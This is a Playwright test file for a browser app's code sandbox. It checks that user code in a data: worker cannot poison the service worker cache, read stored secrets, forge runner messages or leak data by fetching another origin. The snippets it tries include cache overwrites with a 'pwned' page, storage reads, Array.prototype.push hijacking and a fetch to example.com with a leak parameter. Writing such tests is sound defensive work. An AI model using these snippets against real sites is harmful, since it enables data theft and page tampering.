/**
 * User code cannot reach the app (issue #12, point 6): it runs in a `data:` worker at an opaque
 * origin, so the app's Cache Storage, IndexedDB, OPFS and service worker are out of its reach;
 * it cannot post on the runner's channel; whatever reaches the page is validated and size-capped;
 * and the built app runs under its Content-Security-Policy without violations.
 */
import { expect, test, type Page } from "@playwright/test";
import { consoleLog, openApp, runButton, runCode, runStatus, setCode, stopButton, waitForEditor } from "./helpers";

// The first run of each page waits for Monaco's TypeScript worker (see warmUp).
test.describe.configure({ timeout: 240_000 });

/** Runs each attempt in user code and prints "name: refused (…)" or "name: SUCCEEDED (…)". */
const attempts = (body: string) => `
const attempts: [string, () => unknown][] = [${body}];
for (const [name, attempt] of attempts) {
  try {
    const result = await attempt();
    console.log(name + ": SUCCEEDED " + String(result).slice(0, 200));
  } catch (error) {
    console.log(name + ": refused (" + String(error).slice(0, 160) + ")");
  }
}
console.log("attempts done");
`;

/**
 * The first transpile after a page load starts Monaco's TypeScript worker, which takes 10 s and
 * more on a busy machine: do it once, with room, before anything is timed.
 */
async function warmUp(page: Page): Promise<void> {
  await setCode(page, 'console.log("warm");');
  await runButton(page).click();
  await expect(runStatus(page)).toContainText("Finished", { timeout: 90_000 });
}

async function expectAllRefused(page: Page, names: string[]): Promise<string> {
  await expect(consoleLog(page)).toContainText("attempts done");
  const text = await consoleLog(page).innerText();
  for (const name of names) expect(text, name).toContain(`${name}: refused`);
  expect(text).not.toContain("SUCCEEDED");
  return text;
}

test.describe("with the service worker installed", () => {
  test.use({ serviceWorkers: "allow" });

  test("user code cannot replace index.html in the service worker's cache", async ({ page }) => {
    await openApp(page);
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
    });
    await page.reload();
    await waitForEditor(page);
    await warmUp(page);
    expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
    const cachesBefore = await page.evaluate(() => caches.keys());
    expect(cachesBefore.length).toBeGreaterThan(0);

    const pwned = `new Response("<h1>pwned</h1>", { headers: { "content-type": "text/html" } })`;
    await runCode(
      page,
      attempts(`
        ["caches.open+put", async () => { const c = await caches.open(${JSON.stringify(cachesBefore[0])}); await c.put(new Request("${page.url()}index.html"), ${pwned}); return "put"; }],
        ["caches.keys", async () => { const keys = await caches.keys(); for (const k of keys) { const c = await caches.open(k); for (const r of await c.keys()) await c.put(r, ${pwned}); } return keys.length + " caches overwritten"; }],
        ["self.caches", () => (self as any).caches.keys()],
        ["navigator.serviceWorker", () => (navigator as any).serviceWorker.getRegistrations()],
        ["fetch the app's files", async () => (await fetch(${JSON.stringify(page.url())})).status],
      `),
    );
    await expectAllRefused(page, ["caches.open+put", "caches.keys", "self.caches", "navigator.serviceWorker", "fetch the app's files"]);

    // Every later visit still gets the real app, from the same, untouched cache.
    await page.reload();
    await waitForEditor(page);
    // (The editor still shows the attempt's source, "pwned" included: what matters is the page served.)
    await expect(page).toHaveTitle(/webgrad/);
    await expect(page.getByRole("heading", { name: "pwned" })).toHaveCount(0);
    await expect(runButton(page)).toBeVisible();
    const cached = await page.evaluate(async () => {
      const out: string[] = [];
      for (const key of await caches.keys()) {
        const cache = await caches.open(key);
        for (const request of await cache.keys())
          if (/\/index\.html/.test(request.url) && !/\/reference\//.test(request.url)) out.push(await (await cache.match(request))!.text());
      }
      return out;
    });
    expect(cached.length).toBeGreaterThan(0);
    for (const html of cached) {
      expect(html).toContain('<div id="app">');
      expect(html).not.toContain("pwned");
    }
    expect(await page.evaluate(() => caches.keys())).toEqual(cachesBefore);
  });
});

test("user code cannot read the autosaved workspace or any of the app's storage", async ({ page }) => {
  await openApp(page);
  await warmUp(page);
  const secret = "SECRET-WORK-4711";
  await page.evaluate(async (s) => {
    localStorage.setItem("webgrad.stash.v1", JSON.stringify([{ code: `// ${s}`, mode: "eager", settings: {}, savedAt: 1, reason: "test" }]));
    await new Promise<void>((resolve, reject) => {
      const open = indexedDB.open("webgrad-test-secrets", 1);
      open.onupgradeneeded = () => open.result.createObjectStore("s");
      open.onsuccess = () => {
        const tx = open.result.transaction("s", "readwrite");
        tx.objectStore("s").put(s, "secret");
        tx.oncomplete = () => resolve();
      };
      open.onerror = () => reject(open.error);
    });
    // Anything posted on a same-origin BroadcastChannel would land here.
    const channel = new BroadcastChannel("webgrad-test");
    (window as unknown as { heard: unknown[] }).heard = [];
    channel.onmessage = (e) => (window as unknown as { heard: unknown[] }).heard.push(e.data);
  }, secret);
  const origin = new URL(page.url()).origin;

  await runCode(
    page,
    attempts(`
      ["localStorage", () => (globalThis as any).localStorage.getItem("webgrad.stash.v1")],
      ["indexedDB.open", () => new Promise((resolve, reject) => { const r = indexedDB.open("webgrad-test-secrets"); r.onsuccess = () => resolve(r.result.objectStoreNames.length); r.onerror = () => reject(r.error); })],
      ["indexedDB.databases", () => indexedDB.databases().then((d) => JSON.stringify(d))],
      ["OPFS", () => navigator.storage.getDirectory().then((d) => d.name)],
      ["fetch the page", async () => (await fetch(${JSON.stringify(origin + "/")})).text()],
      ["worker of the app's origin", () => new Worker(${JSON.stringify(origin + "/index.html")})],
      ["importScripts", () => (self as any).importScripts(${JSON.stringify(origin + "/index.html")})],
      ["the runner's port", () => { const p = (globalThis as any).__webgradRunnerPort; if (!p) throw new Error("not there"); return p; }],
      ["BroadcastChannel", () => { new BroadcastChannel("webgrad-test").postMessage("hello from user code"); throw new Error("posted, see the page's side"); }],
      ["origin", () => { if (self.origin === "null") throw new Error("opaque origin"); return self.origin; }],
    `),
  );
  const text = await expectAllRefused(page, [
    "localStorage",
    "indexedDB.open",
    "indexedDB.databases",
    "OPFS",
    "fetch the page",
    "worker of the app's origin",
    "importScripts",
    "the runner's port",
    "origin",
  ]);
  expect(text).not.toContain(secret);
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
});

test("forged messages are refused: done, log and status on the worker global, a huge image and bad items on the runner's own channel", async ({ page }) => {
  await openApp(page);
  await warmUp(page);
  const pageErrors: string[] = [];
  page.on("pageerror", (e) => pageErrors.push(e.message));
  await setCode(
    page,
    `
// 1. Straight on the worker global: nobody listens there.
for (let runId = 0; runId < 20; runId++) {
  for (const v of [4, 5, 6]) {
    self.postMessage({ type: "done", v, runId, ok: true, durationMs: 1 });
    self.postMessage({ type: "output", v, runId, items: [{ kind: "log", level: "log", text: "FORGED-LOG" }] });
    self.postMessage({ type: "backend", v, name: "webgpu", detail: "FORGED-STATUS Finished in 1 ms", source: "library" });
  }
}
// 2. Into the runner's own batches, by patching Array.prototype.push: the page checks each item.
const push = Array.prototype.push;
Array.prototype.push = function (this: unknown[], ...items: any[]) {
  if (items[0]?.kind === "log" && items[0].text === "trigger") {
    Array.prototype.push = push;
    push.call(this,
      { kind: "event", event: { type: "image", name: "forged", count: 1, height: 60000, width: 60000, pixels: new Uint8Array(4), range: [0, 1], colormap: "gray" } },
      { kind: "event", event: { type: "scatter", name: "forged", points: new Float32Array(2), classes: 2, extent: [0, 1, 0, 1], background: { width: 60000, height: 60000, channels: 1, levels: new Uint8Array(1) } } },
      { kind: "done" },
      { kind: "log", level: "log", text: "BIG" + "x".repeat(5_000_000) },
    );
  }
  return push.apply(this, items);
};
console.log("trigger");
// 3. Keep the run going: a forged done must not end it.
setTimeout(() => console.log("real end"), 2500);
`,
  );
  await runButton(page).click();
  await expect(consoleLog(page)).toContainText("trigger");
  await expect(consoleLog(page).locator(".line.error")).toContainText("runner: refused 3 invalid output items (");
  await page.waitForTimeout(500);
  await expect(runStatus(page)).toHaveText("Running…");
  await expect(stopButton(page)).toBeEnabled();
  const text = await consoleLog(page).innerText();
  expect(text).not.toContain("FORGED-LOG");
  await expect(page.getByTestId("backend-status")).not.toContainText("FORGED");
  // The 5 MB line arrived cut to the cap.
  const big = await consoleLog(page).locator(".line", { hasText: "BIGxxx" }).innerText();
  expect(big.length).toBeLessThan(25_000);
  expect(big).toContain("more characters");
  await expect(consoleLog(page)).toContainText("real end", { timeout: 10_000 });
  await expect(runStatus(page)).toContainText("Finished");
  expect(pageErrors).toEqual([]);
  // The page still works.
  await runCode(page, 'console.log("after the forgeries");');
  await expect(consoleLog(page)).toContainText("after the forgeries");
});

test("the built app runs code under its Content-Security-Policy with no violations, and user code cannot reach another origin", async ({ page }) => {
  const violations: string[] = [];
  page.on("console", (m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(m.text());
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => console.error(`Refused to (CSP) ${e.violatedDirective} ${e.blockedURI}`));
  });
  await openApp(page, "./", { typeCheck: true });
  await warmUp(page);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("object-src 'none'");
  // Every example runs under this policy in examples.spec.ts, which fails on any violation.
  // The editor's TypeScript worker works (a type error squiggles).
  await setCode(page, 'const n: number = "x";\n');
  await expect(page.locator(".monaco-editor .squiggly-error").first()).toBeAttached({ timeout: 30_000 });
  // User code is bound by the policy too: it cannot send data to another origin.
  await runCode(page, 'try { await fetch("https://example.com/?leak=1"); console.log("LEAKED"); } catch (e) { console.log("blocked:", String(e)); }');
  await expect(consoleLog(page)).toContainText("blocked:");
  expect(violations.filter((v) => !v.includes("example.com"))).toEqual([]);
});
